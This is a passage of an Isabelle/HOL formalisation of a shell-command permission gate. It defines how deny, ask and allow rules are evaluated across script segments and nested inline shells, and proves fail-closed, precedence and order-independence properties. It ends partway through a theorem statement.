definition escalate :: "'g policy_env \<Rightarrow> 'g compiled_policy \<Rightarrow> ustr \<Rightarrow> gate_decision option" where
  "escalate env pol segment =
     (case evaluate env pol (AccBash segment :: unit access_kind) of
        Some (Reject reason) \<Rightarrow> Some (GReject reason)
      | Some Ask \<Rightarrow> Some AskRuleMatch
      | _ \<Rightarrow> None)"

definition fail_closed_when :: "bool \<Rightarrow> gate_decision option" where
  "fail_closed_when b = (if b then Some AskFailClosed else None)"

definition evaluate_command_words ::
  "'g policy_env \<Rightarrow> 'g compiled_policy \<Rightarrow> (ustr \<Rightarrow> gate_decision option) option \<Rightarrow> ustr list \<Rightarrow>
   gate_decision option"
where
  "evaluate_command_words env pol inner raw_words =
     (let norm = normalize_command_words raw_words;
          decision = fail_closed_when (nc_exhausted norm \<or> nc_ambiguous norm \<or> nc_env_options_uncertain norm);
          decision = combine_gate_decisions decision (fail_closed_when (nc_has_split_string norm));
          inner_words = nc_words norm;
          forms = raw_words # (if length inner_words \<noteq> length raw_words then [inner_words] else []);
          decision = foldl (\<lambda>d words. combine_gate_decisions d (escalate env pol (join [32] words)))
                       decision forms;
          decision =
            (case shell_dash_c_script (map SWLiteral inner_words) of
               NotInline \<Rightarrow> decision
             | LiteralAt index \<Rightarrow>
                 combine_gate_decisions decision
                   (case inner of
                      Some rec_gate \<Rightarrow>
                        if index < length inner_words then rec_gate (inner_words ! index) else Some AskFailClosed
                    | None \<Rightarrow> Some AskFailClosed)
             | _ \<Rightarrow> combine_gate_decisions decision (Some AskFailClosed))
      in case env_split_string_script inner_words of
           Some script \<Rightarrow>
             combine_gate_decisions decision
               (case inner of Some rec_gate \<Rightarrow> rec_gate script | None \<Rightarrow> Some AskFailClosed)
         | None \<Rightarrow> decision)"

definition gate_segments ::
  "'g policy_env \<Rightarrow> 'g compiled_policy \<Rightarrow> (ustr \<Rightarrow> gate_decision option) option \<Rightarrow> ustr \<Rightarrow> gate_decision option"
where
  "gate_segments env pol inner cmd =
     (case all_commands_from_script (pe_parse env) cmd of
        None \<Rightarrow> Some AskFailClosed
      | Some segments \<Rightarrow>
          foldl (\<lambda>d parsed. combine_gate_decisions d (evaluate_command_words env pol inner (pl_words parsed)))
            None segments)"

primrec evaluate_bash_command_segments ::
  "'g policy_env \<Rightarrow> 'g compiled_policy \<Rightarrow> nat \<Rightarrow> ustr \<Rightarrow> gate_decision option"
where
  "evaluate_bash_command_segments env pol 0 = gate_segments env pol None"
| "evaluate_bash_command_segments env pol (Suc n) =
     gate_segments env pol (Some (evaluate_bash_command_segments env pol n))"

definition evaluate_bash_command_gate ::
  "'g policy_env \<Rightarrow> 'g compiled_policy \<Rightarrow> ustr \<Rightarrow> gate_decision option"
where
  "evaluate_bash_command_gate env pol cmd =
     (if \<not> cp_has_bash_command_restrictions pol then None
      else evaluate_bash_command_segments env pol MAX_INLINE_SHELL_DEPTH cmd)"

definition evaluate_bash_command_policy ::
  "'g policy_env \<Rightarrow> 'g compiled_policy \<Rightarrow> ustr \<Rightarrow> decision option"
where
  "evaluate_bash_command_policy env pol cmd = map_option into_decision (evaluate_bash_command_gate env pol cmd)"

section \<open>Ranked combination\<close>

text \<open>
  Both combinations keep the decision of the higher rank; what follows from that is proved once.
\<close>

definition orank :: "('d \<Rightarrow> nat) \<Rightarrow> 'd option \<Rightarrow> nat" where
  "orank rank d = (case d of None \<Rightarrow> 0 | Some d \<Rightarrow> Suc (rank d))"

locale ranked_combination =
  fixes rank :: "'d \<Rightarrow> nat" and combine :: "'d option \<Rightarrow> 'd option \<Rightarrow> 'd option"
  assumes combine_None1: "combine None b = b"
    and combine_None2: "combine a None = a"
    and combine_Some: "combine (Some x) (Some y) = Some (if rank x \<ge> rank y then x else y)"
begin

lemma orank_combine: "orank rank (combine a b) = max (orank rank a) (orank rank b)"
  by (cases a; cases b) (auto simp: orank_def combine_None1 combine_None2 combine_Some)

lemma combine_in: "combine a b = a \<or> combine a b = b"
  by (cases a; cases b) (auto simp: combine_None1 combine_None2 combine_Some)

lemma foldl_ge_start: "orank rank d \<le> orank rank (foldl (\<lambda>d x. combine d (f x)) d xs)"
proof (induction xs arbitrary: d)
  case (Cons x xs)
  then show ?case using Cons[of "combine d (f x)"] by (simp add: orank_combine)
qed simp

lemma foldl_ge: "x \<in> set xs \<Longrightarrow> orank rank (f x) \<le> orank rank (foldl (\<lambda>d x. combine d (f x)) d xs)"
proof (induction xs arbitrary: d)
  case (Cons y xs)
  show ?case
  proof (cases "x = y")
    case True
    have "orank rank (f y) \<le> orank rank (combine d (f y))" by (simp add: orank_combine)
    also have "\<dots> \<le> orank rank (foldl (\<lambda>d x. combine d (f x)) (combine d (f y)) xs)" by (rule foldl_ge_start)
    finally show ?thesis using True by simp
  qed (use Cons in auto)
qed simp

end

interpretation gate: ranked_combination gate_rank combine_gate_decisions
proof
  show "combine_gate_decisions a None = a" for a by (cases a) (simp_all add: combine_gate_decisions_def)
qed (simp_all add: combine_gate_decisions_def)

interpretation plain: ranked_combination decision_rank combine_decisions
proof
  show "combine_decisions a None = a" for a by (cases a) (simp_all add: combine_decisions_def)
qed (simp_all add: combine_decisions_def)

lemma combine_allow: "combine_decisions a (Some d) = Some Allow \<Longrightarrow> d = Ask \<or> (\<exists>r. d = Reject r) \<Longrightarrow> a = Some Allow"
  by (cases a) (auto simp: combine_decisions_def decision_rank_def split: if_splits)

lemma gate_orank_iff:
  "orank gate_rank g \<ge> 4 \<longleftrightarrow> (\<exists>r. g = Some (GReject r))"
  "orank gate_rank g \<ge> 3 \<longleftrightarrow> (\<exists>r. g = Some (GReject r)) \<or> g = Some AskRuleMatch"
  "orank gate_rank g \<ge> 2 \<longleftrightarrow> g \<noteq> None"
  by (auto simp: orank_def gate_rank_def split: option.splits gate_decision.splits)

section \<open>Facts\<close>

subsection \<open>Rules that apply\<close>

definition applies :: "'g policy_env \<Rightarrow> 'j access_kind \<Rightarrow> ustr option \<Rightarrow> rule_action \<Rightarrow> permission_rule \<times> 'g option \<Rightarrow> bool" where
  "applies env access cwd a rm = (case rm of (rule, matcher) \<Rightarrow>
     rule_action rule = a \<and> rule_reaches access rule \<and> pattern_matches env access rule matcher cwd)"

definition some_rule ::
  "'g policy_env \<Rightarrow> 'g compiled_policy \<Rightarrow> 'j access_kind \<Rightarrow> ustr option \<Rightarrow> rule_action \<Rightarrow> bool"
where
  "some_rule env pol access cwd a \<longleftrightarrow>
     list_ex (applies env access cwd a) (zip (pc_rules (cp_config pol)) (cp_matchers pol))"

lemma rule_loop_spec:
  "rule_loop env access cwd rs ask allow =
     (case find (applies env access cwd RuleDeny) rs of
        Some (rule, _) \<Rightarrow> Inl (Reject (deny_reason rule))
      | None \<Rightarrow>
          Inr (ask \<or> list_ex (applies env access cwd RuleAsk) rs, allow \<or> list_ex (applies env access cwd RuleAllow) rs))"
proof (induction env access cwd rs ask allow rule: rule_loop.induct)
  case (2 env access cwd rule matcher rest ask allow)
  then show ?case
    by (cases "\<not> rule_reaches access rule \<or> \<not> pattern_matches env access rule matcher cwd"; cases "rule_action rule")
      (auto simp: applies_def split: option.split)
qed simp

lemma find_None_list_ex: "find P xs = None \<longleftrightarrow> \<not> list_ex P xs"
  by (induction xs) auto

lemma find_Some_in: "find P xs = Some x \<Longrightarrow> x \<in> set xs \<and> P x"
  by (induction xs) (auto split: if_splits)

text \<open>The decision by the kinds of rules that apply, and nothing else.\<close>

lemma evaluate_lexical_deny:
  assumes "some_rule env pol access cwd RuleDeny"
  obtains rule m where "evaluate_lexical_with_cwd env pol access cwd = Some (Reject (deny_reason rule))"
    "(rule, m) \<in> set (zip (pc_rules (cp_config pol)) (cp_matchers pol))" "applies env access cwd RuleDeny (rule, m)"
proof -
  let ?rs = "zip (pc_rules (cp_config pol)) (cp_matchers pol)"
  obtain x where x: "find (applies env access cwd RuleDeny) ?rs = Some x"
    using assms by (cases "find (applies env access cwd RuleDeny) ?rs") (auto simp: some_rule_def find_None_list_ex)
  obtain rule m where "x = (rule, m)" by (cases x)
  with x find_Some_in[OF x] that show ?thesis by (auto simp: evaluate_lexical_with_cwd_def rule_loop_spec)
qed

lemma evaluate_lexical_no_deny:
  assumes "\<not> some_rule env pol access cwd RuleDeny"
  shows "evaluate_lexical_with_cwd env pol access cwd =
    (if some_rule env pol access cwd RuleAsk then Some Ask
     else if (case access of
                AccBash cmd \<Rightarrow>
                  cp_has_bash_allow_rules pol \<and>
                  bash_chain_fully_allowed env pol ScopeAny MAX_INLINE_SHELL_DEPTH cmd
              | _ \<Rightarrow> some_rule env pol access cwd RuleAllow)
     then Some Allow else None)"
proof -
  have "find (applies env access cwd RuleDeny) (zip (pc_rules (cp_config pol)) (cp_matchers pol)) = None"
    using assms by (simp add: some_rule_def find_None_list_ex)
  then show ?thesis
    unfolding evaluate_lexical_with_cwd_def rule_loop_spec some_rule_def by (cases access) simp_all
qed

lemma evaluate_bash: "evaluate env pol (AccBash cmd :: 'j access_kind) = evaluate_lexical_with_cwd env pol (AccBash cmd :: 'j access_kind) None"
  by (simp add: evaluate_def evaluate_with_cwd_def evaluate_with_cwd_details_def native_file_path_def)

subsection \<open>Policies with the same rules\<close>

lemma zip_compiled:
  "zip (pc_rules (cp_config (compiled_policy_new env c))) (cp_matchers (compiled_policy_new env c)) =
     map (\<lambda>r. (r, compile_matcher env r)) (pc_rules c)"
  "zip (map (\<lambda>r. (r, compile_matcher env r)) (pc_rules c)) (cp_catchall (compiled_policy_new env c)) =
     map (\<lambda>r. ((r, compile_matcher env r), rule_is_catchall env r)) (pc_rules c)"
  by (induction "pc_rules c") (simp_all add: compiled_policy_new_def zip_map2 zip_map1 zip_same_conv_map comp_def)


lemma bash_words_allowed_set:
  assumes "set (pc_rules c) = set (pc_rules c')"
  shows "bash_words_allowed env (compiled_policy_new env c) scope words =
         bash_words_allowed env (compiled_policy_new env c') scope words"
  unfolding bash_words_allowed_def zip_compiled Let_def list_ex_iff using assms by simp

lemma bash_chain_set:
  assumes "set (pc_rules c) = set (pc_rules c')"
  shows "bash_chain_fully_allowed env (compiled_policy_new env c) scope n =
         bash_chain_fully_allowed env (compiled_policy_new env c') scope n"
proof -
  have s: "segment_allowed env (compiled_policy_new env c) scope = segment_allowed env (compiled_policy_new env c') scope"
    by (intro ext) (simp add: segment_allowed_def bash_words_allowed_set[OF assms] cong: if_cong)
  have "chain_allowed env (compiled_policy_new env c) scope = chain_allowed env (compiled_policy_new env c') scope"
    by (intro ext) (simp only: chain_allowed_def s)
  then show ?thesis by (induction n) simp_all
qed

lemma some_rule_set:
  "set (pc_rules c) = set (pc_rules c') \<Longrightarrow>
   some_rule env (compiled_policy_new env c) access cwd a = some_rule env (compiled_policy_new env c') access cwd a"
  by (simp add: some_rule_def zip_compiled list_ex_iff)


subsection \<open>Commands a script runs\<close>

text \<open>
  The commands the checks have to see: the segments of the script and, down to the depth, those of the
  scripts handed to a shell with \<open>-c\<close> and, when \<open>packed\<close>, to \<open>env -S\<close>.
\<close>

inductive runs :: "'g policy_env \<Rightarrow> bool \<Rightarrow> nat \<Rightarrow> ustr \<Rightarrow> ustr list \<Rightarrow> bool" for env packed where
  segment: "all_commands_from_script (pe_parse env) cmd = Some segs \<Longrightarrow> c \<in> set segs \<Longrightarrow>
    runs env packed n cmd (pl_words c)"
| inline: "all_commands_from_script (pe_parse env) cmd = Some segs \<Longrightarrow> c \<in> set segs \<Longrightarrow>
    ws = nc_words (normalize_command_words (pl_words c)) \<Longrightarrow>
    shell_dash_c_script (map SWLiteral ws) = LiteralAt i \<Longrightarrow> i < length ws \<Longrightarrow>
    runs env packed n (ws ! i) w \<Longrightarrow> runs env packed (Suc n) cmd w"
| split: "packed \<Longrightarrow> all_commands_from_script (pe_parse env) cmd = Some segs \<Longrightarrow> c \<in> set segs \<Longrightarrow>
    ws = nc_words (normalize_command_words (pl_words c)) \<Longrightarrow> env_split_string_script ws = Some script \<Longrightarrow>
    runs env packed n script w \<Longrightarrow> runs env packed (Suc n) cmd w"

lemma chain_step:
  "bash_chain_fully_allowed env pol scope n = chain_allowed env pol scope
     (case n of 0 \<Rightarrow> None | Suc m \<Rightarrow> Some (bash_chain_fully_allowed env pol scope m))"
  by (cases n) simp_all

lemma chain_segment:
  assumes "bash_chain_fully_allowed env pol scope n cmd"
    "all_commands_from_script (pe_parse env) cmd = Some segs" "c \<in> set segs"
  shows "segment_allowed env pol scope
    (case n of 0 \<Rightarrow> None | Suc m \<Rightarrow> Some (bash_chain_fully_allowed env pol scope m)) (pl_words c)"
  using assms unfolding chain_step[of env pol scope n]
  by (auto simp: chain_allowed_def list_all_iff split: if_splits)

lemma chain_runs:
  assumes "runs env False n cmd w" "bash_chain_fully_allowed env pol scope n cmd"
  shows "clean_peel (normalize_command_words w) \<and>
    bash_words_allowed env pol scope (nc_words (normalize_command_words w)) \<and>
    \<not> shell_dash_c_script (map SWLiteral (nc_words (normalize_command_words w))) \<in> {InlineUntrusted, Unrecognized}"
  using assms
proof (induction rule: runs.induct)
  case (segment cmd segs c n)
  have "segment_allowed env pol scope
    (case n of 0 \<Rightarrow> None | Suc m \<Rightarrow> Some (bash_chain_fully_allowed env pol scope m)) (pl_words c)"
    by (rule chain_segment[OF segment(3,1,2)])
  then show ?case
    by (auto simp: segment_allowed_def clean_peel_def Let_def split: if_splits inline_shell_script.splits)
next
  case (inline cmd segs c ws i n w)
  have "segment_allowed env pol scope (Some (bash_chain_fully_allowed env pol scope n)) (pl_words c)"
    using chain_segment[OF inline(8,1,2)] by simp
  then have "bash_chain_fully_allowed env pol scope n (ws ! i)"
    using inline(3,4,5) by (auto simp: segment_allowed_def Let_def split: if_splits)
  then show ?case by (rule inline.IH)
qed simp

lemma chain_has_command:
  assumes "bash_chain_fully_allowed env pol scope n cmd"
  obtains w where "runs env False n cmd w"
proof -
  obtain segs where s: "all_commands_from_script (pe_parse env) cmd = Some segs" "segs \<noteq> []"
    using assms unfolding chain_step[of env pol scope n] by (auto simp: chain_allowed_def split: option.splits if_splits)
  then have "hd segs \<in> set segs" by simp
  with s(1) that show ?thesis by (blast intro: runs.segment)
qed

lemma narrow_words_any:
  "bash_words_allowed env pol NarrowOnly ws \<Longrightarrow> bash_words_allowed env pol ScopeAny ws \<and> \<not> head_is_exec_vehicle ws"
  by (auto simp: bash_words_allowed_def Let_def list_ex_iff split: if_splits)


lemma narrow_chain_any:
  "bash_chain_fully_allowed env pol NarrowOnly n cmd \<Longrightarrow> bash_chain_fully_allowed env pol ScopeAny n cmd"
proof (induction n arbitrary: cmd)
  case 0
  have "segment_allowed env pol NarrowOnly None ws \<Longrightarrow> segment_allowed env pol ScopeAny None ws" for ws
    using narrow_words_any by (auto simp: segment_allowed_def Let_def split: if_splits inline_shell_script.splits)
  with 0 show ?case by (auto simp: chain_allowed_def list_all_iff split: option.splits)
next
  case (Suc n)
  have "segment_allowed env pol NarrowOnly (Some (bash_chain_fully_allowed env pol NarrowOnly n)) ws \<Longrightarrow>
      segment_allowed env pol ScopeAny (Some (bash_chain_fully_allowed env pol ScopeAny n)) ws" for ws
    using narrow_words_any Suc.IH by (auto simp: segment_allowed_def Let_def split: if_splits inline_shell_script.splits)
  with Suc.prems show ?case by (auto simp: chain_allowed_def list_all_iff split: option.splits)
qed

subsection \<open>The gate\<close>

lemma normalize_words_drop: "\<exists>k. nc_words (normalize_command_words w) = drop k w"
proof -
  have "nc_words (normalize_command_words w) =
      nc_words (normalize_loop MAX_NORMALIZE_ROUNDS \<lparr>nc_words = w, nc_has_chdir = False, nc_has_split_string = False,
        nc_env_options_uncertain = False, nc_exhausted = False, nc_ambiguous = False\<rparr>)" (is "_ = nc_words (normalize_loop _ ?init)")
    by (simp add: normalize_command_words_def Let_def)
  moreover have "peels w (nc_words (normalize_loop MAX_NORMALIZE_ROUNDS ?init))"
    using normalize_loop_peels[of ?init] by simp
  ultimately show ?thesis using peels_suffix by metis
qed

lemma same_length_same_words:
  "length (nc_words (normalize_command_words w)) = length w \<Longrightarrow> nc_words (normalize_command_words w) = w"
proof -
  assume l: "length (nc_words (normalize_command_words w)) = length w"
  obtain k where "nc_words (normalize_command_words w) = drop k w" using normalize_words_drop by blast
  moreover from this l have "k = 0 \<or> w = []"
    by (metis diff_less length_drop length_greater_0_conv neq0_conv less_irrefl)
  ultimately show ?thesis by auto
qed

text \<open>What the checks of one command at least return.\<close>

lemma command_words_floor:
  fixes env pol inner w
  defines "norm \<equiv> normalize_command_words w" and "g \<equiv> orank gate_rank (evaluate_command_words env pol inner w)"
  shows "orank gate_rank (escalate env pol (join [32] w)) \<le> g"
    "orank gate_rank (escalate env pol (join [32] (nc_words norm))) \<le> g"
    "\<not> clean_peel norm \<Longrightarrow> 2 \<le> g"
    "shell_dash_c_script (map SWLiteral (nc_words norm)) \<in> {InlineUntrusted, Unrecognized} \<Longrightarrow> 2 \<le> g"
    "shell_dash_c_script (map SWLiteral (nc_words norm)) = LiteralAt i \<Longrightarrow> i < length (nc_words norm) \<Longrightarrow>
       inner = Some f \<Longrightarrow> orank gate_rank (f (nc_words norm ! i)) \<le> g"
    "env_split_string_script (nc_words norm) = Some script \<Longrightarrow> inner = Some f \<Longrightarrow>
       orank gate_rank (f script) \<le> g"
proof -
  let ?d0 = "combine_gate_decisions
    (fail_closed_when (nc_exhausted norm \<or> nc_ambiguous norm \<or> nc_env_options_uncertain norm))
    (fail_closed_when (nc_has_split_string norm))"
  let ?forms = "w # (if length (nc_words norm) \<noteq> length w then [nc_words norm] else [])"
  let ?d1 = "foldl (\<lambda>d words. combine_gate_decisions d (escalate env pol (join [32] words))) ?d0 ?forms"
  let ?d2 = "case shell_dash_c_script (map SWLiteral (nc_words norm)) of
      NotInline \<Rightarrow> ?d1
    | LiteralAt index \<Rightarrow>
        combine_gate_decisions ?d1
          (case inner of
             Some rec_gate \<Rightarrow>
               if index < length (nc_words norm) then rec_gate (nc_words norm ! index) else Some AskFailClosed
           | None \<Rightarrow> Some AskFailClosed)
    | _ \<Rightarrow> combine_gate_decisions ?d1 (Some AskFailClosed)"
  have g: "g = orank gate_rank (case env_split_string_script (nc_words norm) of
      Some script \<Rightarrow>
        combine_gate_decisions ?d2 (case inner of Some rec_gate \<Rightarrow> rec_gate script | None \<Rightarrow> Some AskFailClosed)
    | None \<Rightarrow> ?d2)"
    unfolding g_def evaluate_command_words_def Let_def norm_def ..
  have d2g: "orank gate_rank ?d2 \<le> g"
    unfolding g by (cases "env_split_string_script (nc_words norm)") (simp_all add: gate.orank_combine)
  have d12: "orank gate_rank ?d1 \<le> orank gate_rank ?d2"
    by (cases "shell_dash_c_script (map SWLiteral (nc_words norm))") (simp_all only: inline_shell_script.case gate.orank_combine max.cobounded1 order_refl)
  have d01: "orank gate_rank ?d0 \<le> orank gate_rank ?d1" by (rule gate.foldl_ge_start)
  have form: "orank gate_rank (escalate env pol (join [32] v)) \<le> g" if "v \<in> set ?forms" for v
    using gate.foldl_ge[OF that, of "\<lambda>words. escalate env pol (join [32] words)" ?d0] d12 d2g by (rule order_trans[OF _ order_trans])
  show "orank gate_rank (escalate env pol (join [32] w)) \<le> g" by (rule form) simp
  show "orank gate_rank (escalate env pol (join [32] (nc_words norm))) \<le> g"
  proof (rule form)
    show "nc_words norm \<in> set ?forms" using same_length_same_words[of w] by (auto simp: norm_def)
  qed
  show "2 \<le> g" if "\<not> clean_peel norm"
  proof -
    have "2 \<le> orank gate_rank ?d0"
      using that by (auto simp: clean_peel_def fail_closed_when_def combine_gate_decisions_def orank_def gate_rank_def)
    with d01 d12 d2g show ?thesis by linarith
  qed
  have fc: "2 \<le> orank gate_rank (combine_gate_decisions d (Some AskFailClosed))" for d
    unfolding gate.orank_combine by (simp add: orank_def gate_rank_def)
  show "2 \<le> g" if "shell_dash_c_script (map SWLiteral (nc_words norm)) \<in> {InlineUntrusted, Unrecognized}"
  proof -
    have "2 \<le> orank gate_rank ?d2" using that fc[of ?d1] by (auto simp only: inline_shell_script.case insert_iff empty_iff)
    with d2g show ?thesis by linarith
  qed
  show "orank gate_rank (f (nc_words norm ! i)) \<le> g"
    if "shell_dash_c_script (map SWLiteral (nc_words norm)) = LiteralAt i" "i < length (nc_words norm)" "inner = Some f"
  proof -
    have "orank gate_rank (f (nc_words norm ! i)) \<le> orank gate_rank ?d2"
      using that by (simp only: inline_shell_script.case option.case if_True gate.orank_combine max.cobounded2)
    with d2g show ?thesis by linarith
  qed
  show "orank gate_rank (f script) \<le> g"
    if "env_split_string_script (nc_words norm) = Some script" "inner = Some f"
    unfolding g using that by (simp only: option.case gate.orank_combine max.cobounded2)
qed

lemma segments_step:
  "evaluate_bash_command_segments env pol n = gate_segments env pol
     (case n of 0 \<Rightarrow> None | Suc m \<Rightarrow> Some (evaluate_bash_command_segments env pol m))"
  by (cases n) simp_all

lemma gate_segment:
  assumes "all_commands_from_script (pe_parse env) cmd = Some segs" "c \<in> set segs"
  shows "orank gate_rank (evaluate_command_words env pol
      (case n of 0 \<Rightarrow> None | Suc m \<Rightarrow> Some (evaluate_bash_command_segments env pol m)) (pl_words c)) \<le>
    orank gate_rank (evaluate_bash_command_segments env pol n cmd)"
  unfolding segments_step[of env pol n] gate_segments_def assms(1) option.case
  using gate.foldl_ge[OF assms(2), of "\<lambda>p. evaluate_command_words env pol
    (case n of 0 \<Rightarrow> None | Suc m \<Rightarrow> Some (evaluate_bash_command_segments env pol m)) (pl_words p)" None] .

lemma gate_runs:
  assumes "runs env True n cmd w"
  shows "\<exists>inner. orank gate_rank (evaluate_command_words env pol inner w) \<le>
    orank gate_rank (evaluate_bash_command_segments env pol n cmd)"
  using assms
proof (induction rule: runs.induct)
  case (segment cmd segs c n)
  from gate_segment[OF this, of pol n] show ?case by blast
next
  case (inline cmd segs c ws i n w)
  let ?rec = "evaluate_bash_command_segments env pol n"
  have "orank gate_rank (?rec (ws ! i)) \<le> orank gate_rank (evaluate_command_words env pol (Some ?rec) (pl_words c))"
    unfolding inline(3) by (rule command_words_floor(5)) (use inline in auto)
  also have "\<dots> \<le> orank gate_rank (evaluate_bash_command_segments env pol (Suc n) cmd)"
    using gate_segment[OF inline(1,2), of pol "Suc n"] by simp
  finally show ?case using inline.IH order_trans by blast
next
  case (split cmd segs c ws script n w)
  let ?rec = "evaluate_bash_command_segments env pol n"
  have "orank gate_rank (?rec script) \<le> orank gate_rank (evaluate_command_words env pol (Some ?rec) (pl_words c))"
    by (rule command_words_floor(6)) (use split in auto)
  also have "\<dots> \<le> orank gate_rank (evaluate_bash_command_segments env pol (Suc n) cmd)"
    using gate_segment[OF split(2,3), of pol "Suc n"] by simp
  finally show ?case using split.IH order_trans by blast
qed


lemma gate_floor:
  assumes "cp_has_bash_command_restrictions pol" "runs env True MAX_INLINE_SHELL_DEPTH cmd w"
    "form = w \<or> form = nc_words (normalize_command_words w)"
  shows "orank gate_rank (escalate env pol (join [32] form)) \<le> orank gate_rank (evaluate_bash_command_gate env pol cmd)"
    "\<not> clean_peel (normalize_command_words w) \<Longrightarrow> 2 \<le> orank gate_rank (evaluate_bash_command_gate env pol cmd)"
proof -
  obtain inner where i: "orank gate_rank (evaluate_command_words env pol inner w) \<le>
      orank gate_rank (evaluate_bash_command_gate env pol cmd)"
    using gate_runs[OF assms(2)] assms(1) by (auto simp: evaluate_bash_command_gate_def)
  show "orank gate_rank (escalate env pol (join [32] form)) \<le> orank gate_rank (evaluate_bash_command_gate env pol cmd)"
    using assms(3) command_words_floor(1,2)[of env pol w inner] i by (metis order_trans)
  show "2 \<le> orank gate_rank (evaluate_bash_command_gate env pol cmd)" if "\<not> clean_peel (normalize_command_words w)"
    using command_words_floor(3)[OF that, of env pol inner] i by linarith
qed

text \<open>A denied command anywhere in the script rejects the script.\<close>

lemma gate_rejects:
  assumes "cp_has_bash_command_restrictions pol" "runs env True MAX_INLINE_SHELL_DEPTH cmd w"
    "form = w \<or> form = nc_words (normalize_command_words w)"
    "evaluate env pol (AccBash (join [32] form) :: unit access_kind) = Some (Reject r)"
  shows "\<exists>r'. evaluate_bash_command_gate env pol cmd = Some (GReject r')"
  using gate_floor(1)[OF assms(1-3)] assms(4) unfolding gate_orank_iff(1)[symmetric]
  by (simp add: escalate_def orank_def gate_rank_def)

lemma deny_prefix_rejects:
  assumes "(rule, m) \<in> set (zip (pc_rules (cp_config pol)) (cp_matchers pol))"
    "rule_action rule = RuleDeny" "rule_tool rule = FBash" "rule_pattern rule = Some p" "starts_with (trim_start cmd) p"
  shows "\<exists>r. evaluate env pol (AccBash cmd :: 'j access_kind) = Some (Reject r)"
proof -
  have "applies env (AccBash cmd :: 'j access_kind) None RuleDeny (rule, m)"
    using assms by (simp add: applies_def rule_reaches_def tool_filter_matches_def pattern_matches_def Let_def)
  then have "some_rule env pol (AccBash cmd :: 'j access_kind) None RuleDeny"
    using assms(1) by (auto simp: some_rule_def list_ex_iff)
  from evaluate_lexical_deny[OF this] show ?thesis unfolding evaluate_bash by metis
qed

subsection \<open>Path forms\<close>

lemma joined_absolute: "is_absolute cwd \<Longrightarrow> is_absolute (joined_path path (Some cwd))"
  by (auto simp: joined_path_def path_join_def is_absolute_def starts_with_iff)

lemma match_string_absolute: "is_absolute p \<Longrightarrow> starts_with (path_match_string p) [SLASH]"
  by (auto simp: is_absolute_def path_match_string_def starts_with_iff)

lemma components_absolute: "is_absolute p \<longleftrightarrow> (\<exists>cs. components p = RootDir # cs)"
proof -
  have "RootDir \<notin> set (body_components p)" by (auto simp: body_components_def seg_component_def split: if_splits)
  then show ?thesis by (cases "body_components p") (auto simp: components_def lead_components_def)
qed

lemma tilde_forms:
  assumes "is_tilde_path path" "is_absolute cwd"
  shows "path_match_forms path (Some cwd) = [path_match_string path]"
proof -
  obtain n cs where "components path = Normal n # cs"
    using assms(1) by (auto simp: is_tilde_path_def split: list.splits component.splits)
  moreover obtain ms where "components (normalize_lexically cwd) = RootDir # ms" using normalize_absolute[OF assms(2)] by metis
  ultimately have "path_strip_prefix path (normalize_lexically cwd) = None" by (simp add: path_strip_prefix_def)
  then show ?thesis using assms(1) by (simp add: path_match_forms_def absolute_normalized_path_def Let_def)
qed

section \<open>Properties\<close>

text \<open>
  Deny before ask before allow: a deny rule that applies decides (with the reason of such a rule);
  otherwise an ask rule that applies asks; otherwise an access other than a shell command is allowed exactly
  when an allow rule applies, and a shell command exactly when its chain is fully allowed.
\<close>

lemma evaluate_precedence:
  fixes access :: "'j access_kind"
  shows "(some_rule env pol access cwd RuleDeny \<longrightarrow>
      (\<exists>rule m. evaluate_lexical_with_cwd env pol access cwd = Some (Reject (deny_reason rule)) \<and>
         (rule, m) \<in> set (zip (pc_rules (cp_config pol)) (cp_matchers pol)) \<and>
         applies env access cwd RuleDeny (rule, m))) \<and>
    (\<not> some_rule env pol access cwd RuleDeny \<longrightarrow>
      evaluate_lexical_with_cwd env pol access cwd =
        (if some_rule env pol access cwd RuleAsk then Some Ask
         else if (case access of
                    AccBash cmd \<Rightarrow>
                      cp_has_bash_allow_rules pol \<and>
                      bash_chain_fully_allowed env pol ScopeAny MAX_INLINE_SHELL_DEPTH cmd
                  | _ \<Rightarrow> some_rule env pol access cwd RuleAllow)
         then Some Allow else None))"
proof (intro conjI impI)
  assume "some_rule env pol access cwd RuleDeny"
  from evaluate_lexical_deny[OF this]
  show "\<exists>rule m. evaluate_lexical_with_cwd env pol access cwd = Some (Reject (deny_reason rule)) \<and>
         (rule, m) \<in> set (zip (pc_rules (cp_config pol)) (cp_matchers pol)) \<and>
         applies env access cwd RuleDeny (rule, m)"
    by metis
next
  assume "\<not> some_rule env pol access cwd RuleDeny"
  then show "evaluate_lexical_with_cwd env pol access cwd =
        (if some_rule env pol access cwd RuleAsk then Some Ask
         else if (case access of
                    AccBash cmd \<Rightarrow>
                      cp_has_bash_allow_rules pol \<and>
                      bash_chain_fully_allowed env pol ScopeAny MAX_INLINE_SHELL_DEPTH cmd
                  | _ \<Rightarrow> some_rule env pol access cwd RuleAllow)
         then Some Allow else None)"
    by (rule evaluate_lexical_no_deny)
qed

text \<open>
  The order and the repetition of rules do not matter: two configurations with the same set of rules
  decide every access alike, up to the text of a denial.
\<close>

lemma evaluate_order_independent:
  assumes "set (pc_rules c) = set (pc_rules c')"
  shows "orank decision_rank (evaluate_lexical_with_cwd env (compiled_policy_new env c) access cwd) =
         orank decision_rank (evaluate_lexical_with_cwd env (compiled_policy_new env c') access cwd)"
proof (cases "some_rule env (compiled_policy_new env c) access cwd RuleDeny")
  case True
  then have t: "some_rule env (compiled_policy_new env c') access cwd RuleDeny" using some_rule_set[OF assms] by blast
  obtain r where "evaluate_lexical_with_cwd env (compiled_policy_new env c) access cwd = Some (Reject (deny_reason r))"
    using evaluate_lexical_deny[OF True] by metis
  moreover obtain r' where "evaluate_lexical_with_cwd env (compiled_policy_new env c') access cwd = Some (Reject (deny_reason r'))"
    using evaluate_lexical_deny[OF t] by metis
  ultimately show ?thesis by (simp add: orank_def decision_rank_def)
next
  case False
  then have f: "\<not> some_rule env (compiled_policy_new env c') access cwd RuleDeny" using some_rule_set[OF assms] by blast
  have "cp_has_bash_allow_rules (compiled_policy_new env c) = cp_has_bash_allow_rules (compiled_policy_new env c')"
    using assms by (simp add: compiled_policy_new_def list_ex_iff)
  then show ?thesis
    unfolding evaluate_lexical_no_deny[OF False] evaluate_lexical_no_deny[OF f] some_rule_set[OF assms]
      bash_chain_set[OF assms] by (cases access) simp_all
qed

text \<open>
  C7. An allow on a shell command is conjunctive: it is given only when the script decomposes into at
  least one command, every command it runs, inline shells included, is normalised without doubt and matched
  by an allow rule, and no deny or ask rule applies to the script.
\<close>

theorem bash_allow_conjunctive:
  assumes "evaluate env pol (AccBash cmd :: 'j access_kind) = Some Allow"
